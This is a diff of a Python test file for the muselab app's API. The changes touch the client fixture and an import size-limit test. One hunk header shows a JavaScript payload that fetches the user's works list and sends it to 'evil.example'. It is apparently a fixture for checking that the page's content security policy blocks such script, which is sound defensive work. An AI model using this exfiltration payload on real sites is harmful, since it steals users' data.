@@ -10,7 +10,6 @@ import pytest
 from fastapi.testclient import TestClient
 
 from muselab.api.app import create_app
-from muselab.library import archive
 from muselab.library.media import CONTENT_HEADERS
 from muselab.web import PAGE_CSP
 
@@ -21,7 +20,7 @@ fetch('/v1/works').then(r => r.json()).then(d => fetch('https://evil.example/?' 
 
 @pytest.fixture
 def client(sqlite_studio):
-    with TestClient(create_app(sqlite_studio, start_workers=False)) as c:
+    with TestClient(create_app(sqlite_studio, start_workers=False), base_url="http://127.0.0.1") as c:
         yield c
 
 
@@ -102,7 +101,7 @@ def test_import_over_http_names_the_bad_field_and_limits_the_size(client, sqlite
         zf.writestr("manifest.json", json.dumps({"format": "muselab-export", "version": 1, "works": [entry]}))
     r = client.post("/v1/import", files={"file": ("x.zip", buf.getvalue(), "application/zip")})
     assert r.status_code == 422 and r.json()["field"] == "works[0].id", r.text
-    monkeypatch.setattr(archive, "MAX_IMPORT_BYTES", 100)
+    monkeypatch.setattr(sqlite_studio.settings, "max_import_mb", 0)  # the owner's limit: below any zip
     r = client.post("/v1/import", files={"file": ("x.zip", buf.getvalue(), "application/zip")})
     assert r.status_code == 413 and r.json()["field"] == "file"
     assert client.get("/v1/works").json()["total"] == 0 and _leftovers(sqlite_studio) == []
